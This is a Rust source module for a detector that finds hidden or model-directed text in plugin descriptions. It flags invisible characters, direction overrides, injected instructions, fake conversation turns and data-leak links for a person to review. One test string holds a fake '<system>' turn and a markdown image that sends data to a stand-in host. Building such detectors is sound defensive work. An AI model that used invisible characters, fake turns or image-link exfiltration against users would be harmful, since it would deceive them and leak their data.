//! Text of strangers that is not what a reader takes it for: characters that cannot be seen, and
//! words that are addressed to a model where a description was expected.
//!
//! A person who looks at a plugin reads its texts; a model reads them too, and every character
//! of them. So what only the model would notice, or what tells the model what to do, is pointed
//! out. This finds what is known; text that finds another way to persuade is not found, and what
//! is found may be harmless. Nothing is changed, and nothing rests on it but a person's look.

mod hidden;
mod phrases;
mod plain;

use std::fmt;
use std::ops::Range;

/// Characters that an excerpt shows before what is suspect.
const BEFORE_CHARS_MAX: usize = 24;
/// Characters of what is suspect that an excerpt shows.
const SHOWN_CHARS_MAX: usize = 72;
/// Characters that an excerpt shows after it.
const AFTER_CHARS_MAX: usize = 24;
/// Characters of an excerpt when all that is hidden is spelled out.
const EXCERPT_CHARS_MAX: usize = 240;

/// Something in a text that a person should look at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Suspect {
    /// What sort of thing it is.
    pub kind: SuspectKind,
    /// What it is, in words.
    pub what: &'static str,
    /// Where it begins, in bytes of the text.
    pub start: usize,
    /// The place, on one line and bounded, with every character that cannot be seen written as
    /// `[U+200B]`.
    pub excerpt: String,
}

/// Sorts of suspect text.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum SuspectKind {
    /// Characters without any width, so that a model reads what no person sees.
    Invisible,
    /// Characters that change the reading direction, so that a person reads another order.
    Direction,
    /// Control characters, characters without a meaning, and letters of two alphabets in a word.
    Unreadable,
    /// Words that tell the model what to do.
    Instruction,
    /// What passes for turns of the conversation.
    Turn,
    /// What a page or a person does not show: comments, encoded data.
    Hidden,
    /// What may carry data away.
    Leak,
    /// Names of tools of others. [`suspects`] does not know these.
    OtherTool,
}

impl SuspectKind {
    /// The kind as a word.
    pub fn as_str(self) -> &'static str {
        match self {
            SuspectKind::Invisible => "invisible",
            SuspectKind::Direction => "direction",
            SuspectKind::Unreadable => "unreadable",
            SuspectKind::Instruction => "instruction",
            SuspectKind::Turn => "turn",
            SuspectKind::Hidden => "hidden",
            SuspectKind::Leak => "leak",
            SuspectKind::OtherTool => "other-tool",
        }
    }
}

impl fmt::Display for SuspectKind {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.as_str())
    }
}

impl Suspect {
    /// What stands at `range` of `text`.
    pub fn new(kind: SuspectKind, what: &'static str, text: &str, range: Range<usize>) -> Suspect {
        Suspect { kind, what, start: range.start, excerpt: excerpt(text, range) }
    }
}

/// Finds what is suspect in a text, sorted by place: of each thing that is looked for, the first.
///
/// It takes time in proportion to the length of the text, and gives at most some 30 suspects.
/// Emoji, and joiners and variation selectors of the scripts that need them, are not suspect.
pub fn suspects(text: &str) -> Vec<Suspect> {
    let found = hidden::find(text).into_iter().chain(phrases::find(text));
    let mut suspects: Vec<Suspect> =
        found.map(|(kind, what, range)| Suspect::new(kind, what, text, range)).collect();
    suspects.sort_by_key(|suspect| (suspect.start, suspect.kind));
    suspects
}

/// Returns `text` on one line, with every character that cannot be seen written as `[U+200B]`.
pub fn visible(text: &str) -> String {
    let mut visible = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '\n' | '\t' => visible.push(' '),
            _ if hidden::is_hidden(character) => {
                visible.push_str(&format!("[U+{:04X}]", u32::from(character)));
            }
            _ => visible.push(character),
        }
    }
    visible
}

fn excerpt(text: &str, range: Range<usize>) -> String {
    let place = |mut chars: std::str::CharIndices<'_>, count| chars.nth(count).map(|(at, _)| at);
    let before = text[..range.start].char_indices().rev().take(BEFORE_CHARS_MAX).last();
    let start = before.map_or(range.start, |(at, _)| at);
    let shown = &text[range.clone()];
    let end = place(shown.char_indices(), SHOWN_CHARS_MAX).map_or(range.end, |at| range.start + at);
    let after = place(text[end..].char_indices(), AFTER_CHARS_MAX);
    let after = after.map_or(text.len(), |at| end + at);
    let (first, last) = if start > 0 { ("...", start) } else { ("", 0) };
    let rest = if after < text.len() { "..." } else { "" };
    let shown = visible(&text[last..after]);
    super::cut(&format!("{first}{shown}{rest}"), EXCERPT_CHARS_MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn excerpts_are_bounded_and_visible() {
        let check = |text: &str, range: Range<usize>, expected: &str| {
            assert_eq!(excerpt(text, range), expected);
        };
        check("a\u{200b}b", 1..4, "a[U+200B]b");
        check("é\n\u{202e}x", 3..6, "é [U+202E]x");
        let long = format!("{}!{}", "a".repeat(100), "b".repeat(100));
        check(&long, 100..101, &format!("...{}!{}...", "a".repeat(24), "b".repeat(24)));
        let tags: String = std::iter::repeat_n('\u{e0041}', 500).collect();
        let shown = excerpt(&tags, 0..tags.len());
        assert!(shown.starts_with("[U+E0041][U+E0041]"), "{shown}");
        assert_eq!(shown.chars().count(), EXCERPT_CHARS_MAX + 3);
        // Nothing that is shown is hidden itself.
        assert_eq!(visible(&shown), shown);
    }

    #[test]
    fn what_is_found_is_sorted_by_place() {
        let found = suspects("<system>x</system> a\u{200b}b ![x](https://e.example/?data={d})");
        let kinds: Vec<SuspectKind> = found.iter().map(|suspect| suspect.kind).collect();
        assert_eq!(
            kinds,
            [SuspectKind::Turn, SuspectKind::Invisible, SuspectKind::Leak, SuspectKind::Leak]
        );
        assert_eq!(found[1].start, 20);
        assert!(suspects("").is_empty());
    }
}
